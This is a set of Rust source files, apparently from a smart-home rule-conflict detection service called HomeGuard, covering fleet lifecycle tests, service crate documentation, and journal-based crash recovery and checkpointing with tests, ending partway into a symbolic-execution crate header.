        assert_eq!(fleet.len(), 10);
        assert_eq!(fleet.home_ids(), ids);
        assert_eq!(fleet.shard_count(), 4);

        fleet.remove_home(ids[3]).unwrap();
        assert_eq!(fleet.len(), 9);
        assert!(matches!(
            fleet.remove_home(ids[3]),
            Err(HgError::UnknownHome(id)) if id == ids[3]
        ));
        assert!(matches!(
            fleet.with_home(ids[3], |_| ()),
            Err(HgError::UnknownHome(_))
        ));
    }

    #[test]
    fn lifecycle_through_the_fleet() {
        let fleet = Fleet::new(RuleStore::shared());
        let id = fleet.create_home().unwrap();
        let report = fleet.install_app(id, ON_APP, "OnApp", None).unwrap();
        assert!(report.installed);

        let dirty = fleet.install_app(id, OFF_APP, "OffApp", None).unwrap();
        assert!(!dirty.installed);
        assert!(dirty
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        fleet.confirm_install(id, dirty).unwrap();
        assert_eq!(
            fleet.with_home(id, |h| h.installed_rules().len()).unwrap(),
            2
        );

        let removed = fleet.uninstall_app(id, "OffApp").unwrap();
        assert_eq!(removed.retired_threats, 1);
        assert_eq!(
            fleet.with_home(id, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string()]
        );

        let v2 = ON_APP.replace("lamp.on()", "lamp.off()");
        let upgraded = fleet.upgrade_app(id, &v2, "OnApp", None).unwrap();
        assert!(upgraded.installed);
    }

    #[test]
    fn install_many_extracts_once() {
        let fleet = Fleet::new(RuleStore::shared());
        let ids: Vec<HomeId> = (0..5).map(|_| fleet.create_home().unwrap()).collect();
        let results = fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap();
        assert_eq!(results.len(), 5);
        assert!(results.iter().all(|(_, r)| r.as_ref().unwrap().installed));
        // One real extraction; the other five ingests (bulk pre-ingest +
        // five per-home installs) are cache hits.
        assert_eq!(fleet.store().cache_hits(), 5);

        // A broken source installs nowhere.
        assert!(matches!(
            fleet.install_many(&ids, "def installed() {", "Broken", None),
            Err(HgError::Extract { .. })
        ));
    }

    #[test]
    fn propagate_upgrade_rolls_the_fleet_forward() {
        let fleet = Fleet::new(RuleStore::shared());
        let with_app: Vec<HomeId> = (0..4).map(|_| fleet.create_home().unwrap()).collect();
        let without_app = fleet.create_home().unwrap();
        fleet
            .install_many(&with_app, ON_APP, "OnApp", None)
            .unwrap();
        // One home also runs a conflicting app: its upgrade stays pending.
        fleet
            .install_app_forced(with_app[2], OFF_APP, "OffApp", None)
            .unwrap();

        let v2 = ON_APP.replace("lamp.on()", "lamp.on(); lamp.off()");
        let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
        assert_eq!(rollout.app, "OnApp");
        assert_eq!(rollout.skipped, 1);
        let mut upgraded = rollout.upgraded.clone();
        upgraded.sort();
        assert_eq!(upgraded, vec![with_app[0], with_app[1], with_app[3]]);
        assert_eq!(rollout.pending.len(), 1);
        let (dirty_home, ref report) = rollout.pending[0];
        assert_eq!(dirty_home, with_app[2]);
        assert!(!report.installed);

        // The pending home still runs v1; confirming commits v2.
        assert_eq!(
            fleet
                .with_home(dirty_home, |h| h.installed_rules()[0].actions.len())
                .unwrap(),
            1
        );
        fleet
            .confirm_install(dirty_home, rollout.pending.into_iter().next().unwrap().1)
            .unwrap();
        assert_eq!(
            fleet
                .with_home(dirty_home, |h| {
                    h.installed_rules()
                        .iter()
                        .filter(|r| r.id.app == "OnApp")
                        .map(|r| r.actions.len())
                        .sum::<usize>()
                })
                .unwrap(),
            2,
            "v2 has two actions"
        );
        assert_eq!(
            fleet
                .with_home(without_app, |h| h.installed_rules().len())
                .unwrap(),
            0
        );

        // A renaming rollout is refused outright — and refused BEFORE
        // publishing: the rejected name must not appear in the store.
        let renamed = ON_APP.replace("OnApp", "NewApp");
        assert!(matches!(
            fleet.propagate_upgrade(&renamed, "OnApp"),
            Err(HgError::UpgradeRenames { .. })
        ));
        assert!(
            !fleet.store().has_app("NewApp"),
            "a refused rollout must not publish the new app store-wide"
        );
    }

    #[test]
    fn poisoned_shard_reports_typed_errors_and_isolates() {
        let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
        let a = fleet.create_home().unwrap(); // shard 0
        let b = fleet.create_home().unwrap(); // shard 1

        // A panicking mutation poisons only home `a`'s shard.
        let doomed = fleet.clone();
        std::thread::spawn(move || {
            let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
        })
        .join()
        .unwrap_err();

        assert!(matches!(
            fleet.with_home(a, |_| ()),
            Err(HgError::Poisoned(_))
        ));
        // The sibling shard keeps serving.
        assert!(
            fleet
                .install_app(b, ON_APP, "OnApp", None)
                .unwrap()
                .installed
        );

        // Registry-level enumeration still sees the quarantined home...
        assert_eq!(fleet.len(), 2);
        assert_eq!(fleet.home_ids(), vec![a, b]);

        // ...a new home is never placed in the poisoned shard (the handle
        // would be unreachable from birth): id 2 would route to shard 0,
        // so it is burned and the home lands on a healthy shard.
        let c = fleet.create_home().unwrap();
        assert!(
            fleet
                .install_app(c, ON_APP, "OnApp", None)
                .unwrap()
                .installed
        );

        // ...and a rollout sweeps past the poisoned shard instead of
        // aborting, reporting it.
        let v2 = format!("{ON_APP}// v2\n");
        let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
        assert_eq!(rollout.poisoned_shards, 1);
        let mut upgraded = rollout.upgraded.clone();
        upgraded.sort();
        assert_eq!(upgraded, vec![b, c]);
        assert!(rollout.failed.is_empty());
    }

    #[test]
    fn snapshot_restore_round_trips_the_fleet() {
        let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
        let a = fleet.create_home().unwrap();
        let b = fleet.create_home().unwrap();
        fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
        let dirty = fleet.install_app(a, OFF_APP, "OffApp", None).unwrap();
        fleet.confirm_install(a, dirty).unwrap();
        fleet.install_app(b, ON_APP, "OnApp", None).unwrap();

        let text = fleet.snapshot().unwrap().to_text();
        let restored = Fleet::restore(FleetSnapshot::from_text(&text).unwrap()).unwrap();

        // Same registry: ids, routing, counts.
        assert_eq!(restored.shard_count(), 4);
        assert_eq!(restored.home_ids(), vec![a, b]);
        assert_eq!(
            restored.with_home(a, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string(), "OffApp".to_string()]
        );
        assert_eq!(
            restored.with_home(a, |h| h.allowed().len()).unwrap(),
            1,
            "confirmed threat decisions survive the restart"
        );
        assert_eq!(
            restored
                .with_home(b, |h| h.installed_rules().len())
                .unwrap(),
            1
        );
        // Warm restart: the store's ingest cache came back, so installing
        // the same app into a new home re-extracts nothing.
        let hits = restored.store().cache_hits();
        let c = restored.create_home().unwrap();
        assert!(c > b, "the id counter must never reissue a restored id");
        restored.install_app(c, ON_APP, "OnApp", None).unwrap();
        assert_eq!(restored.store().cache_hits(), hits + 1);
    }

    #[test]
    fn snapshot_of_a_poisoned_fleet_is_a_typed_error() {
        let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
        let a = fleet.create_home().unwrap();
        let doomed = fleet.clone();
        std::thread::spawn(move || {
            let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
        })
        .join()
        .unwrap_err();
        assert!(matches!(fleet.snapshot(), Err(HgError::Poisoned(_))));
    }

    #[test]
    fn restore_rejects_ids_beyond_the_counter() {
        let fleet = Fleet::new(RuleStore::shared());
        let id = fleet.create_home().unwrap();
        let mut snapshot = fleet.snapshot().unwrap();
        snapshot.next_id = id.raw(); // forged: the counter excludes `id`
        assert!(matches!(
            Fleet::restore(snapshot),
            Err(HgError::Snapshot(_))
        ));
    }

    #[test]
    fn force_uninstall_purges_every_home_and_the_store() {
        let fleet = Fleet::new(RuleStore::shared());
        let ids: Vec<HomeId> = (0..3).map(|_| fleet.create_home().unwrap()).collect();
        let bystander = fleet.create_home().unwrap();
        fleet.install_many(&ids, OFF_APP, "OffApp", None).unwrap();
        fleet.install_app(bystander, ON_APP, "OnApp", None).unwrap();

        let outcome = fleet.force_uninstall("OffApp");
        assert_eq!(outcome.app, "OffApp");
        assert_eq!(outcome.removed.len(), 3);
        assert_eq!(outcome.skipped, 1);
        assert!(outcome.failed.is_empty());
        assert!(outcome.store_retired);
        assert!(!fleet.store().has_app("OffApp"));
        for id in &ids {
            assert!(fleet
                .with_home(*id, |h| h.installed_apps().is_empty())
                .unwrap());
        }
        // The bystander keeps its unrelated app, and the store cannot
        // serve the pulled one from any cache.
        assert!(fleet
            .with_home(bystander, |h| h.is_installed("OnApp"))
            .unwrap());
        assert!(matches!(
            fleet.check_install(bystander, "OffApp"),
            Err(HgError::UnknownApp(_))
        ));
        // Idempotent: a second pull finds nothing anywhere.
        let again = fleet.force_uninstall("OffApp");
        assert!(again.removed.is_empty());
        assert!(!again.store_retired);
    }

    #[test]
    fn export_import_migrates_a_home_between_fleets() {
        let fleet = Fleet::new(RuleStore::shared());
        let id = fleet.create_home().unwrap();
        fleet.install_app(id, ON_APP, "OnApp", None).unwrap();
        let dirty = fleet.install_app(id, OFF_APP, "OffApp", None).unwrap();
        fleet.confirm_install(id, dirty).unwrap();

        // Across "processes": only the serialized text crosses.
        let text = hg_persist::home_to_text(&fleet.export_home(id).unwrap());
        let target = Fleet::new(RuleStore::shared());
        let migrated = target
            .import_home(hg_persist::home_from_text(&text).unwrap())
            .unwrap();
        assert_eq!(
            target.with_home(migrated, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string(), "OffApp".to_string()]
        );
        assert_eq!(
            target.with_home(migrated, |h| h.allowed().len()).unwrap(),
            1
        );
        // The migrated session is live: lifecycle ops work even though the
        // target store never ingested the apps.
        target.uninstall_app(migrated, "OffApp").unwrap();
        assert_eq!(
            target.with_home(migrated, |h| h.installed_apps()).unwrap(),
            vec!["OnApp".to_string()]
        );
    }

    #[test]
    fn home_defaults_template_applies() {
        let fleet = Fleet::builder(RuleStore::shared())
            .home_defaults(|b| b.modes(["Day", "Night"]))
            .build();
        let id = fleet.create_home().unwrap();
        assert_eq!(
            fleet.with_home(id, |h| h.modes().to_vec()).unwrap(),
            vec!["Day".to_string(), "Night".to_string()]
        );
        // Per-home customization overrides the template.
        let custom = fleet.create_home_with(|b| b.modes(["Solo"])).unwrap();
        assert_eq!(
            fleet.with_home(custom, |h| h.modes().to_vec()).unwrap(),
            vec!["Solo".to_string()]
        );
    }

    #[test]
    fn attached_bus_sees_fleet_lifecycle_and_sweeps() {
        let fleet = Fleet::builder(RuleStore::shared()).shards(2).build();
        let early = fleet.create_home().unwrap();
        let bus = Arc::new(TelemetryBus::new());
        assert!(fleet.attach_telemetry(bus.clone()));
        assert!(!fleet.attach_telemetry(bus.clone()), "one bus per fleet");
        let late = fleet.create_home().unwrap();

        // Both the pre-attach home (wired retroactively) and the new one
        // publish, stamped with their ids.
        fleet.install_app(early, ON_APP, "OnApp", None).unwrap();
        fleet.install_app(late, ON_APP, "OnApp", None).unwrap();
        let v2 = ON_APP.replace("lamp.on()", "lamp.toggle()");
        let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
        assert_eq!(rollout.upgraded.len(), 2);
        fleet.snapshot().unwrap();

        let mut events = Vec::new();
        bus.drain_since(0, &mut events);
        let created: Vec<u64> = events
            .iter()
            .filter_map(|(_, e)| match e {
                TelemetryEvent::HomeCreated { home } => Some(*home),
                _ => None,
            })
            .collect();
        assert_eq!(created, vec![late.raw()], "creation precedes attachment");
        let install_homes: Vec<u64> = events
            .iter()
            .filter_map(|(_, e)| match e {
                TelemetryEvent::InstallCompleted { home, upgrade, .. } => {
                    (!upgrade).then_some(*home)
                }
                _ => None,
            })
            .collect();
        assert_eq!(install_homes, vec![early.raw(), late.raw()]);
        let sweeps = events
            .iter()
            .filter(
                |(_, e)| matches!(e, TelemetryEvent::SweepShardDone { op, .. } if *op == "upgrade"),
            )
            .count();
        assert_eq!(sweeps, 2, "one sweep event per shard");
        assert!(events
            .iter()
            .any(|(_, e)| matches!(e, TelemetryEvent::SnapshotTaken { homes: 2, .. })));
        // Fleet-wide mediation aggregate starts at zero.
        assert_eq!(fleet.mediation_stats().events, 0);
    }
}
