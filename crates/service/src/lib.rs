//! # hg-service — the HomeGuard fleet service surface
//!
//! The paper's deployment model is one cloud-side rule store serving many
//! independent homes ("heavy traffic from millions of users"). The
//! per-home [`Home`] session from `homeguard-core` is single-threaded by
//! design; this crate is the layer that turns a process full of sessions
//! into a **service**: a [`Fleet`] owning an N-way-sharded concurrent
//! registry of homes on top of the shared [`RuleStore`].
//!
//! * **Sharded, not globally locked** — homes live in per-shard
//!   `RwLock`ed maps, routed by [`HomeId`]; installs into different shards
//!   proceed in parallel, and the shared store's ingest cache means one
//!   extraction serves every home installing the same app.
//! * **Full lifecycle** — install → confirm → upgrade → uninstall, each
//!   incremental against the per-home candidate index, plus the fleet-wide
//!   bulk operations [`Fleet::install_many`] (extract once, install
//!   everywhere) and [`Fleet::propagate_upgrade`] (re-extract once,
//!   re-check every home running the app).
//! * **Typed errors** — every entry point returns [`HgError`]; a missing
//!   home, an unknown app, a corrupt rule file, a poisoned shard and a
//!   malformed snapshot are distinct, per-home recoverable conditions.
//! * **Durability** — [`Fleet::snapshot`] / [`Fleet::restore`] capture and
//!   revive the whole service through `hg-persist` (warm restart: ids,
//!   Allowed lists and the ingest cache survive), [`Fleet::export_home`] /
//!   [`Fleet::import_home`] migrate one session between processes, and
//!   [`Fleet::force_uninstall`] retracts a store-pulled app from every
//!   home *and* the shared database. With a write-ahead [`Journal`]
//!   attached ([`Fleet::attach_journal`]), every lifecycle mutation is
//!   journaled and restore becomes *last checkpoint + replay*
//!   ([`Fleet::recover`], [`Fleet::checkpoint`], [`start_checkpointer`]
//!   — see [`durability`]).
//! * **Fault tolerance** — journal I/O failures are classified, retried
//!   and, on exhaustion, quarantined: the fleet keeps serving reads and
//!   decides writes by the journal's [`DegradedPolicy`] (refuse with
//!   [`HgError::Degraded`], or serve unjournaled).
//!   [`Fleet::heal_journal`] re-arms a recovered backend with a fresh
//!   full checkpoint; [`Fleet::poisoned_shards`] is the health-probe
//!   signal. Deterministic chaos lives in [`FaultPlan`] /
//!   [`FaultBackend`] (`tests/chaos_fuzz.rs`).
//!
//! # Examples
//!
//! ```
//! use hg_service::{Fleet, RuleStore};
//!
//! let fleet = Fleet::new(RuleStore::shared());
//! let alice = fleet.create_home().unwrap();
//! let bob = fleet.create_home().unwrap();
//!
//! const APP: &str = r#"
//!     definition(name: "OnApp")
//!     input "m", "capability.motionSensor"
//!     input "lamp", "capability.switch", title: "lamp"
//!     def installed() { subscribe(m, "motion.active", h) }
//!     def h(evt) { lamp.on() }
//! "#;
//!
//! // One extraction serves both homes.
//! let results = fleet.install_many(&[alice, bob], APP, "OnApp", None).unwrap();
//! assert!(results.iter().all(|(_, r)| r.as_ref().unwrap().installed));
//! assert!(fleet.store().cache_hits() >= 1);
//!
//! // v2 of the app rolls out fleet-wide with a single re-extraction.
//! let v2 = APP.replace("lamp.on()", "lamp.off()");
//! let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
//! assert_eq!(rollout.upgraded.len(), 2);
//!
//! // Uninstall retracts: the app's rules stop mediating anything.
//! fleet.uninstall_app(alice, "OnApp").unwrap();
//! assert_eq!(fleet.with_home(alice, |h| h.installed_rules().len()).unwrap(), 0);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod durability;
pub mod fleet;

pub use durability::start_checkpointer;
pub use fleet::{
    BulkOutcomes, Fleet, FleetBuilder, ForceUninstall, ShardRollout, ShardUninstall, UpgradeRollout,
};
pub use hg_journal::{
    Admission, CheckpointScheduler, CheckpointStats, DegradedPolicy, DirBackend, FaultBackend,
    FaultKind, FaultPlan, Journal, JournalConfig, JournalRecord, JournalState, MemBackend,
};
pub use hg_persist::FleetSnapshot;
pub use hg_telemetry::{TelemetryBus, TelemetryEvent};
pub use homeguard_core::{
    frontend, HgError, Home, HomeBuilder, HomeId, HomeState, InstallReport, MediationStats,
    PolicyTable, RuleStore, UninstallReport,
};

/// Deployment-facing alias: a [`Fleet`] *is* the HomeGuard service.
pub type HomeGuardService = Fleet;
