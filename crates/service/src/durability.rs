//! Journal-backed durability: crash recovery and delta checkpoints.
//!
//! With a [`Journal`] attached ([`Fleet::attach_journal`]), every fleet
//! lifecycle mutation appends a [`JournalRecord`]
//! under the journal's checkpoint gate, so restore stops being a
//! stop-the-world snapshot problem and becomes **last checkpoint +
//! replay**:
//!
//! * [`Fleet::recover`] — materializes the journal's checkpoint chain,
//!   revives the fleet from it, then replays every record past the chain's
//!   offset through the same public lifecycle methods live traffic uses.
//!   The result is bit-identical to the crashed fleet (the property
//!   `tests/journal_fuzz.rs` proves at every record boundary).
//! * [`Fleet::checkpoint`] — exports only what changed since the previous
//!   checkpoint (dirty homes, removals, the store if store records
//!   landed), under the gate's exclusive side so the cut is consistent.
//!   The first checkpoint of a journal is always a full image.
//! * [`start_checkpointer`] — wires a fleet into the journal's background
//!   [`CheckpointScheduler`].

use crate::fleet::Fleet;
use hg_config::ConfigInfo;
use hg_detector::{DetectStats, Threat};
use hg_journal::{journal_err, Checkpoint, CheckpointScheduler, CheckpointStats, Journal};
use hg_journal::{JournalRecord, MaterializedFleet};
use hg_persist::FleetSnapshot;
use hg_rules::Rule;
use homeguard_core::{HgError, HomeId, InstallReport};
use std::sync::Arc;
use std::time::{Duration, Instant};

impl Fleet {
    /// Revives a fleet from its write-ahead journal — the crash-recovery
    /// path. Folds the checkpoint chain into a base image, restores the
    /// fleet from it ([`Fleet::restore`] semantics: ids, Allowed lists and
    /// the ingest cache survive), replays every journal record at or past
    /// the chain's offset through the public lifecycle methods, and
    /// finally re-attaches the journal so the recovered fleet keeps
    /// journaling where the crashed one stopped.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the chain is empty/corrupt or a record
    /// cannot be replayed (the offending offset is named);
    /// [`HgError::Snapshot`] when the materialized image is inconsistent.
    pub fn recover(journal: Arc<Journal>) -> Result<Fleet, HgError> {
        let MaterializedFleet {
            offset,
            shards,
            next_id,
            store,
            homes,
        } = journal.materialize()?;
        let fleet = Fleet::restore(FleetSnapshot {
            shards,
            next_id,
            store,
            homes: homes
                .into_iter()
                .map(|(raw, state)| (HomeId::new(raw), state))
                .collect(),
            telemetry: None,
        })?;
        let records = journal.records_from(offset)?;
        let started = Instant::now();
        let replayed = records.len() as u64;
        for (at, record) in records {
            fleet
                .replay(record)
                .map_err(|e| journal_err(format!("replay failed at offset {at}: {e}")))?;
        }
        journal.note_replayed(replayed, started.elapsed().as_micros() as u64);
        fleet.attach_journal(journal)?;
        Ok(fleet)
    }

    /// Applies one journal record to an un-journaled fleet being rebuilt.
    /// Records are state deltas: installs re-enter through
    /// [`Fleet::confirm_install`] with the journaled report, never by
    /// re-running detection against whatever the store holds *now*.
    fn replay(&self, record: JournalRecord) -> Result<(), HgError> {
        match record {
            JournalRecord::HomeCreated { id, state }
            | JournalRecord::HomeImported { id, state } => {
                self.insert_home_at(HomeId::new(id), state)
            }
            JournalRecord::HomesCreated { ids, state } => {
                for id in ids {
                    self.insert_home_at(HomeId::new(id), state.clone())?;
                }
                Ok(())
            }
            JournalRecord::HomeRemoved { id } => self.remove_home(HomeId::new(id)),
            JournalRecord::InstallCommitted {
                id,
                app,
                replaces,
                rules,
                threats,
                config,
            } => {
                let report = self.replay_report(app, replaces, rules, threats, config)?;
                self.confirm_install(HomeId::new(id), report).map(|_| ())
            }
            JournalRecord::UninstallCommitted { id, app } => {
                self.uninstall_app(HomeId::new(id), &app).map(|_| ())
            }
            JournalRecord::InstallSwept { app, homes, config } => {
                // Fresh installs (no `replaces`), rules from the store,
                // the group's shared config on every home.
                for id in homes {
                    let report =
                        self.replay_report(app.clone(), None, None, Vec::new(), config.clone())?;
                    self.confirm_install(HomeId::new(id), report)?;
                }
                Ok(())
            }
            JournalRecord::UpgradeSwept { app, homes } => {
                for id in homes {
                    let report =
                        self.replay_report(app.clone(), Some(app.clone()), None, Vec::new(), None)?;
                    self.confirm_install(HomeId::new(id), report)?;
                }
                Ok(())
            }
            JournalRecord::UninstallSwept { app, homes } => {
                for id in homes {
                    self.uninstall_app(HomeId::new(id), &app)?;
                }
                Ok(())
            }
            JournalRecord::PolicyChanged { id, table } => {
                self.set_handling_policy(HomeId::new(id), table)
            }
            JournalRecord::ConfigRecorded { id, uri } => {
                let info = ConfigInfo::from_uri(&uri)
                    .map_err(|e| journal_err(format!("bad config uri in journal: {e}")))?;
                self.record_config(HomeId::new(id), &info)
            }
            JournalRecord::StoreIngested {
                app,
                source,
                as_name,
            } => {
                if as_name {
                    self.store().ingest_as(&source, &app).map(|_| ())
                } else {
                    self.store().ingest(&source, &app).map(|_| ())
                }
            }
            JournalRecord::StoreRetired { app } => {
                self.store().retire_app(&app);
                Ok(())
            }
        }
    }

    /// Rebuilds the confirmable install report a journaled commit
    /// described: rules come from the record when it carried them (a
    /// stale-report confirmation) and from the store otherwise.
    fn replay_report(
        &self,
        app: String,
        replaces: Option<String>,
        rules: Option<Vec<Rule>>,
        threats: Vec<Threat>,
        config: Option<String>,
    ) -> Result<InstallReport, HgError> {
        let rules = match rules {
            Some(rules) => rules,
            None => self.store().rules_of(&app)?,
        };
        let config = config
            .map(|uri| {
                ConfigInfo::from_uri(&uri)
                    .map_err(|e| journal_err(format!("bad config uri in journal: {e}")))
            })
            .transpose()?;
        Ok(InstallReport {
            app,
            rules,
            threats,
            chains: Vec::new(),
            stats: DetectStats::default(),
            installed: false,
            config,
            replaces,
            dropped_ranks: Vec::new(),
        })
    }

    /// Writes a checkpoint covering everything journaled so far: a **full
    /// image** when the journal holds none yet, a **delta** (dirty homes,
    /// removals, the store only if store records landed) otherwise. Taken
    /// under the checkpoint gate's exclusive side, so the cut is
    /// consistent with respect to every journaled mutation. A delta with
    /// an empty dirty set writes nothing and reports `homes: 0`.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when no journal is attached or the write
    /// fails; [`HgError::Poisoned`] when exporting hits a poisoned shard.
    pub fn checkpoint(&self) -> Result<CheckpointStats, HgError> {
        let journal = self
            .journal()
            .ok_or_else(|| journal_err("no journal attached"))?
            .clone();
        let _cut = journal.gate_exclusive();
        let offset = journal.next_offset();
        if journal.checkpoint_count() == 0 {
            let snapshot = self.snapshot()?;
            return journal.checkpoint_write(&Checkpoint {
                offset,
                full: true,
                shards: snapshot.shards,
                next_id: snapshot.next_id,
                store: Some(snapshot.store),
                homes: snapshot
                    .homes
                    .into_iter()
                    .map(|(id, state)| (id.raw(), state))
                    .collect(),
                removed: Vec::new(),
            });
        }
        let (dirty, removed, store_dirty) = journal.dirty_set();
        if dirty.is_empty() && removed.is_empty() && !store_dirty {
            return Ok(CheckpointStats {
                offset,
                homes: 0,
                full: false,
                micros: 0,
            });
        }
        let mut homes = Vec::with_capacity(dirty.len());
        for raw in dirty {
            homes.push((raw, self.export_home(HomeId::new(raw))?));
        }
        journal.checkpoint_write(&Checkpoint {
            offset,
            full: false,
            shards: self.shard_count(),
            next_id: self.next_id_value(),
            store: store_dirty.then(|| self.store().export_state()),
            homes,
            removed,
        })
    }

    /// Re-arms a quarantined journal over the **live** fleet state: takes
    /// the gate's exclusive side (no mutation is mid-flight), snapshots
    /// the fleet, and hands [`Journal::heal`] a full checkpoint at the
    /// journal's current offset. Healing closes the divergence window a
    /// quarantine opens — any mutation applied while degraded (refused
    /// appends, [`hg_journal::DegradedPolicy::ServeUnjournaled`] traffic)
    /// is captured by the fresh image, so recovery no longer rolls back to
    /// the quarantine offset.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when no journal is attached, the journal is
    /// not quarantined, or the backend is still failing (the quarantine
    /// stands — call again once the disk recovers); [`HgError::Poisoned`]
    /// when the snapshot hits a poisoned shard.
    pub fn heal_journal(&self) -> Result<CheckpointStats, HgError> {
        let journal = self
            .journal()
            .ok_or_else(|| journal_err("no journal attached"))?
            .clone();
        let _cut = journal.gate_exclusive();
        let snapshot = self.snapshot()?;
        journal.heal(&Checkpoint {
            offset: journal.next_offset(),
            full: true,
            shards: snapshot.shards,
            next_id: snapshot.next_id,
            store: Some(snapshot.store),
            homes: snapshot
                .homes
                .into_iter()
                .map(|(id, state)| (id.raw(), state))
                .collect(),
            removed: Vec::new(),
        })
    }
}

/// Starts the background checkpointer for a journaled fleet: every
/// `interval`, [`Fleet::checkpoint`] runs on the `hg-checkpointer`
/// thread. A tick's failure (e.g. a poisoned shard) is skipped — the next
/// tick retries, and an un-checkpointed journal merely replays longer.
/// Stops when the returned [`CheckpointScheduler`] is dropped.
pub fn start_checkpointer(fleet: Arc<Fleet>, interval: Duration) -> CheckpointScheduler {
    CheckpointScheduler::start(interval, move || {
        let _ = fleet.checkpoint();
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_journal::MemBackend;
    use homeguard_core::RuleStore;

    const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

    fn journaled_fleet() -> (Fleet, MemBackend) {
        let backend = MemBackend::new();
        let journal = Arc::new(Journal::open(Box::new(backend.clone())).unwrap());
        let fleet = Fleet::new(RuleStore::shared());
        assert!(fleet.attach_journal(journal).unwrap());
        (fleet, backend)
    }

    fn reopen(backend: &MemBackend) -> Fleet {
        let journal = Arc::new(Journal::open(Box::new(backend.clone())).unwrap());
        Fleet::recover(journal).unwrap()
    }

    fn fleet_text(fleet: &Fleet) -> String {
        fleet.snapshot().unwrap().to_text()
    }

    #[test]
    fn recover_replays_installs_and_removals() {
        let (fleet, backend) = journaled_fleet();
        let a = fleet.create_home().unwrap();
        let b = fleet.create_home().unwrap();
        fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
        let dirty = fleet.install_app(a, OFF_APP, "OffApp", None).unwrap();
        assert!(!dirty.installed);
        fleet.confirm_install(a, dirty).unwrap();
        fleet.install_app(b, ON_APP, "OnApp", None).unwrap();
        fleet.remove_home(b).unwrap();

        let recovered = reopen(&backend);
        assert_eq!(fleet_text(&recovered), fleet_text(&fleet));
        // The recovered fleet keeps journaling.
        assert!(recovered.journal().is_some());
    }

    #[test]
    fn bulk_install_journals_one_sweep_record_and_replays() {
        let (fleet, backend) = journaled_fleet();
        // Batch creation journals one `HomesCreated` for all six homes.
        let journal = fleet.journal().unwrap().clone();
        let created_at = journal.next_offset();
        let ids = fleet.create_homes(6).unwrap();
        assert_eq!(journal.next_offset(), created_at + 1);
        // One home already runs a conflicting app, so its group install
        // stays pending while the other five auto-confirm.
        fleet.install_app(ids[0], OFF_APP, "OffApp", None).unwrap();
        let before = journal.next_offset();
        let outcomes = fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap();
        let installed = outcomes
            .iter()
            .filter(|(_, r)| r.as_ref().unwrap().installed)
            .count();
        assert_eq!(installed, 5, "the conflicted home stays pending");
        // One `StoreIngested` (the bulk pre-ingest) plus one `InstallSwept`
        // naming all five clean homes — not one record per home. The
        // pending report journals nothing until it is confirmed.
        assert_eq!(journal.next_offset(), before + 2);
        let pending = outcomes
            .into_iter()
            .find_map(|(id, r)| {
                let report = r.unwrap();
                (!report.installed).then_some((id, report))
            })
            .unwrap();
        fleet.confirm_install(pending.0, pending.1).unwrap();

        let recovered = reopen(&backend);
        assert_eq!(fleet_text(&recovered), fleet_text(&fleet));
    }

    #[test]
    fn recover_resumes_from_delta_checkpoints() {
        let (fleet, backend) = journaled_fleet();
        let a = fleet.create_home().unwrap();
        fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
        let first = fleet.checkpoint().unwrap();
        assert!(!first.full, "attach wrote the full baseline already");
        let b = fleet.create_home().unwrap();
        fleet.install_app(b, OFF_APP, "OffApp", None).unwrap();
        let second = fleet.checkpoint().unwrap();
        assert!(!second.full);
        fleet.uninstall_app(a, "OnApp").unwrap();

        let recovered = reopen(&backend);
        assert_eq!(fleet_text(&recovered), fleet_text(&fleet));
    }

    #[test]
    fn empty_delta_checkpoint_writes_nothing() {
        let (fleet, _backend) = journaled_fleet();
        let journal = fleet.journal().unwrap().clone();
        let before = journal.checkpoint_count();
        let stats = fleet.checkpoint().unwrap();
        assert_eq!(stats.homes, 0);
        assert_eq!(journal.checkpoint_count(), before);
    }

    #[test]
    fn checkpoint_without_journal_is_an_error() {
        let fleet = Fleet::new(RuleStore::shared());
        assert!(matches!(fleet.checkpoint(), Err(HgError::Journal(_))));
    }

    #[test]
    fn background_checkpointer_compacts_replay_work() {
        let (fleet, backend) = journaled_fleet();
        let fleet = Arc::new(fleet);
        let a = fleet.create_home().unwrap();
        fleet.install_app(a, ON_APP, "OnApp", None).unwrap();
        {
            let _scheduler = start_checkpointer(fleet.clone(), Duration::from_millis(5));
            let deadline = Instant::now() + Duration::from_secs(5);
            while fleet.journal().unwrap().checkpoint_count() < 2 {
                assert!(Instant::now() < deadline, "checkpointer never ticked");
                std::thread::sleep(Duration::from_millis(5));
            }
        }
        let recovered = reopen(&backend);
        assert_eq!(fleet_text(&recovered), fleet_text(&fleet));
    }
}
