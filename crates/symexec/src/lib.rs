//! # hg-symexec — symbolic execution of SmartApps
//!
//! This crate implements the paper's rule extractor (§V): a symbolic
//! executor over the Groovy-subset AST from `hg-lang` that explores every
//! execution path from the lifecycle entry points to sensitive sinks and
//! assembles each path into a trigger-condition-action
//! [`Rule`](hg_rules::Rule).
//!
//! Highlights matching the paper:
//!
//! * **Symbolic inputs** — device references, user inputs, device attribute
